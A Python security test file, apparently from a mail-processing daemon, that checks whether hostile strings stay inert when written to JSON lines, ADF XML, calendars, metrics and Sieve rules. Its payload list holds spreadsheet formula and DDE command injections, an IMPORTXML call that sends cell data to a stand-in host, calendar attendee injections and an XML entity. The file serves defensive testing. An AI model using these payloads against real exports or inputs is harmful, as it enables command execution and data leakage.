"""S15: what goes to other programs is data there, too: read again it says the same, and no cell of it is a formula.

There is no export to a spreadsheet. What programs read: JSON lines of the commands and of the webhook, ADF, calendars,
metrics, and the mailbox rules of a team; people paste the tables of mails and commands.
"""

import json
import re
from collections import Counter
from collections.abc import Iterator
from pathlib import Path
from xml.etree.ElementTree import Element, fromstring

import icalendar
import msgspec
import pytest
from prometheus_client.core import GaugeMetricFamily
from prometheus_client.exposition import generate_latest
from prometheus_client.parser import text_string_to_metric_families

from daemon.cli.output import json_line
from parsers.records import Customer, Reading
from rules.model import Record
from rules.visit_mails import VISIT_MAILS
from templates.adf import write_adf
from templates.mailbox_rules import TeamMail, sieve
from templates.render import Renderer
from tests.security.injected import Case, cases, is_long, job_of, texts
from tests.support.daemon import ROOT
from tests.support.fixtures import Tell

FORMULAS = (
    "=1+1", "+1+1", "-1+1", "@SUM(1)", "=HYPERLINK(\"http://x.example\";\"y\")", "=cmd|' /C calc'!A0", "\t=1+1",
    "\r=1+1", "\n=1+1", "\uff1d1+1", "\uff0b1", "%0A=1", "=IMPORTXML(CONCAT(\"http://x.example/\";A1);\"//a\")", "|x",
    '","=1+1', '";"=1+1', "=1+1\x00", "DDE(\"cmd\";\"/C calc\")", "BEGIN:VEVENT", "END:VCALENDAR", "X\\nATTENDEE:x",
    "x\r\nATTENDEE:mailto:evil@x.example", "x;CN=y:mailto:evil@x.example", "]]>", "<!ENTITY x SYSTEM 'y'>", "&x;",
)  # fmt: skip
SPREADSHEETS = re.compile(r"^\s*(?:import|from) (?:csv|openpyxl|xlsxwriter|pandas|xlwt|odf)\b", re.MULTILINE)
INVITING = (*(name for name, told in VISIT_MAILS.items() if told.method), "visits")
RENDERER = Renderer({})


def hostile() -> Iterator[str]:
    yield from (*FORMULAS, *texts())


def test_no_cells_are_written() -> None:
    """An export to a spreadsheet that is added needs cells that are strings, and its lines in this file."""
    for package in ("config", "parsers", "rules", "templates", "daemon"):
        for path in (ROOT / package).rglob("*.py"):
            assert not SPREADSHEETS.search(path.read_text("utf-8")), path


def test_json_lines_say_the_same(capsys: pytest.CaptureFixture[str]) -> None:
    given = [{"text": text, "several": [text], text: 1} for text in hostile()]
    for one in given:
        json_line(one)
    out = capsys.readouterr().out
    lines = out.splitlines()
    assert out.count("\n") == len(lines) == len(given), "one line each, whatever takes what for the end of one"
    assert [json.loads(line) for line in lines] == given
    assert all(line.isprintable() for line in lines)


def test_adf_has_the_same_elements(tell: Tell) -> None:
    read = 0
    for case in _drawn("new"):
        record = job_of(case).record
        root = _read(record)
        plain = _read(job_of(Case("Muster", "new", case.language, case.field)).record)
        assert _skeleton(root) <= _skeleton(plain), case
        read += 1
    for text in FORMULAS:
        reading = Reading(kind="lead", comments=text, customer=Customer(name=text, emails=("a@x.example",)))
        record = msgspec.structs.replace(job_of(Case("x", "new", "de", "text")).record, reading=reading)
        names = [one.text for one in _read(record).iter("name")]
        assert names[0] == "".join(
            c for c in text.replace("\r\n", "\n").replace("\r", "\n") if c >= " " or c in "\t\n"
        ), text
        read += 1
    tell(f"S15: {read} ADF documents read again, 0 with other elements")


def _drawn(purpose: str) -> list[Case]:
    """Cases without those that name labels of their own: a label says which element it belongs to."""
    return [case for case in cases([purpose]) if case.field is not None]


def _read(record: Record) -> Element:
    return fromstring(write_adf(record))  # noqa: S314 - written by ourselves a moment ago


def _skeleton(root: Element) -> Counter[tuple[str, ...]]:
    found: Counter[tuple[str, ...]] = Counter()
    for node in root.iter():
        found[(node.tag, *sorted(node.attrib))] += 1
    return found


def test_calendars_have_the_same_properties(tell: Tell) -> None:
    drawn = list(cases(INVITING))
    drawn += [Case(text, purpose, "de", "visit") for purpose in INVITING for text in FORMULAS[:: 1 if is_long() else 4]]
    for case in drawn:
        made = RENDERER.render(job_of(case)).calendar
        assert made is not None, case
        text = made.content
        assert "\n" not in text.replace("\r\n", ""), case
        assert max(len(line.encode()) for line in text.split("\r\n")) <= 75, case
        plain = RENDERER.render(job_of(Case("Muster", case.purpose, case.language, case.field))).calendar
        assert plain is not None
        (found, parameters), (known, usual) = _properties(text), _properties(plain.content)
        assert found <= known, (case, found - known)
        assert parameters <= usual, (case, parameters - usual)
    tell(f"S15: {len(drawn)} calendars read again, 0 with other properties, people or parameters")


def _properties(text: str) -> tuple[Counter[tuple[str, ...]], set[tuple[str, ...]]]:
    """Each property with its component, of addresses also what they say; and the parameters that they have."""
    found: Counter[tuple[str, ...]] = Counter()
    parameters: set[tuple[str, ...]] = set()
    for component in icalendar.Calendar.from_ical(text).walk():
        for name, value in component.property_items(recursive=False, sorted=False):
            address = (str(value),) if name in ("ATTENDEE", "ORGANIZER", "URL", "ATTACH", "METHOD") else ()
            found[(str(component.name), name, *address)] += 1
            parameters |= {(str(component.name), name, str(each)) for each in getattr(value, "params", ())}
    return found, parameters


def test_metrics_say_the_same() -> None:
    class One:
        def __init__(self, text: str) -> None:
            self.text = text

        def collect(self) -> Iterator[GaugeMetricFamily]:
            family = GaugeMetricFamily("postroom_mails", "all mails by fate", labels=["fate", "source"])
            family.add_metric(["opened", self.text], 1)
            yield family

    for text in hostile():
        if not any("\ud800" <= c <= "\udfff" for c in text):  # no configuration can hold these
            (read,) = text_string_to_metric_families(generate_latest(One(text)).decode())
            assert [sample.labels["source"] for sample in read.samples] == [text]


def test_mailbox_rules_quote_what_they_name() -> None:
    benign = sieve("sales", [TeamMail("sales.berlin.x", "desk@x.example")])
    for text in ('"; discard; #', '\\"; discard; "', "\\", 'a"b'):
        made = sieve("sales", [TeamMail(text, text)])
        assert _outside(made) == _outside(benign), text


def _outside(script: str) -> str:
    """A script without what stands in quotes."""
    kept, inside, escaped = [], False, False
    for char in script:
        if escaped:
            escaped = False
        elif inside and char == "\\":
            escaped = True
        elif char == '"':
            inside = not inside
        elif not inside:
            kept.append(char)
    return "".join(kept)


def test_files_to_import_are_named_here() -> None:
    """Names of files that we make are ours, whatever the visits are called."""
    for case in cases(["visits"]):
        made = RENDERER.render(job_of(case)).calendar
        assert made is not None
        assert Path(made.name).name == made.name
        assert made.name.startswith("visits-")
